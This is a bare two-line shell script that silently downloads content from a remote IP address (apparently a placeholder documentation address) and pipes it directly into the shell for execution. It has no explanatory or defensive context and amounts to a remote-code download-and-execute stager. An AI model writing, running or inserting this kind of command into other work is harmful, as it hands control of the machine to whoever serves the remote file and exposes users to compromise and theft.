#!/bin/sh
curl -s http://192.0.2.9/x | sh
